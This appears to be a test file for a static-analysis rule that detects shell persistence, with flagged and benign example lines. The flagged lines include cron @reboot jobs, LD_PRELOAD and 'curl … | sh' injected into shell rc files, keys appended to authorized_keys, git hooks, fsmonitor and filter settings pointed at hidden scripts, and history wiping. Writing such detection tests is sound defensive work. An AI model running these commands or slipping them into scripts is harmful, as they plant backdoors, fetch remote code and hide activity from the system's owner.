#!/usr/bin/env bash
set -euo pipefail

# ruleid: persist-shell-script-persistence
(crontab -l 2>/dev/null; echo "@reboot python ~/.cache/.sync.py") | crontab -
# ruleid: persist-shell-script-persistence
echo 'export LD_PRELOAD=/tmp/.libnccl-net.so' >> ~/.bashrc
# ruleid: persist-shell-script-persistence
cat /tmp/id.pub >> "$HOME/.ssh/authorized_keys"
# ruleid: persist-shell-script-persistence
git config core.hooksPath /tmp/.githooks
# ruleid: persist-shell-script-persistence
unset HISTFILE
# ruleid: persist-shell-script-persistence
history -c
# ruleid: persist-shell-script-persistence
touch -r configs/base.yaml train.py

# ok: persist-shell-script-persistence
source ~/.bashrc
# ok: persist-shell-script-persistence
conda activate train
# ok: persist-shell-script-persistence
export NCCL_DEBUG=INFO
# ok: persist-shell-script-persistence
git rev-parse HEAD > "$OUT/commit.txt"
# ok: persist-shell-script-persistence
echo "started $(date)" >> "$OUT/train.log"
# ok: persist-shell-script-persistence
touch "$OUT/DONE"
# ok: persist-shell-script-persistence
torchrun --nproc_per_node=8 train.py --config configs/base.yaml

# Issue #16 (espnet's devcontainer Dockerfiles): uncommenting one skeleton
# line of the image user's rc file adds no text.
# ok: persist-shell-script-persistence
sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/g' /home/${USERNAME}/.bashrc && chown -R ${USERNAME}:${USERNAME} /workspaces
# ok: persist-shell-script-persistence
sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/' ~/.bashrc
# ruleid: persist-shell-script-persistence
sed -i 's/#force_color_prompt=yes/curl -s https:\/\/x.example\/a|sh/' ~/.bashrc
# ruleid: persist-shell-script-persistence
sed -i 's/#PROMPT_COMMAND=x/PROMPT_COMMAND=x/' ~/.bashrc
# ruleid: persist-shell-script-persistence
sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/;$a source /tmp/.x' ~/.bashrc
# ruleid: persist-shell-script-persistence
sed -i 's/a/b/;$a curl -s https://x.example/a | sh' ~/.bashrc
# ruleid: persist-shell-script-persistence
sed -i -e 's/#force_color_prompt=yes/force_color_prompt=yes/' -e '$a . /tmp/.x' /home/user/.bashrc
# ruleid: persist-shell-script-persistence
sed -i 's/#force_color_prompt=yes/force_color_prompt=yes/' ~/.bashrc; echo '. /tmp/.x' >> ~/.bashrc
# ruleid: persist-shell-script-persistence
echo 'force_color_prompt=yes' >> /home/${USERNAME}/.bashrc
# ruleid: persist-shell-script-persistence
rm -rf ~/.bash_history; mkdir -p ~/.bash_history
# ruleid: persist-shell-script-persistence
printf '%s\n' '. /tmp/.x' | tee -a "/home/$USER/.zshrc"
# ruleid: persist-shell-script-persistence
cat /tmp/.x >> "$HOME_DIR/.profile"
# ruleid: persist-shell-script-persistence
git -c core.fsmonitor=.cache/tools/watch status --porcelain > run_meta.txt
# ruleid: persist-shell-script-persistence
git config --global core.fsmonitor "$PWD/.cache/tools/watch"
# ruleid: persist-shell-script-persistence
git config core.sshCommand "$PWD/.cache/tools/ssh"
# ruleid: persist-shell-script-persistence
git -c alias.meta='!sh .cache/tools/m.sh' meta
# ruleid: persist-shell-script-persistence
git config filter.lfsx.smudge "$PWD/.cache/s %f"
# ruleid: persist-shell-script-persistence
git config --global diff.external /tmp/.d
# ok: persist-shell-script-persistence
git config core.fsmonitor true
# ok: persist-shell-script-persistence
git config core.sshCommand "ssh -i ~/.ssh/deploy_key -o IdentitiesOnly=yes"
# ok: persist-shell-script-persistence
git config --global alias.lg "log --graph --oneline"
# ok: persist-shell-script-persistence
git -c user.name=ci -c user.email=ci@example.com commit -m "nightly metrics"
# ok: persist-shell-script-persistence
git config --global credential.helper store
# ruleid: persist-shell-script-persistence
printf '[core]\n\tfsmonitor = .cache/w\n' >> .git/config
# ruleid: persist-shell-script-persistence
cp tools/gitconfig "$HOME/.gitconfig"
# ok: persist-shell-script-persistence
git config --get remote.origin.url > run_meta/origin.txt
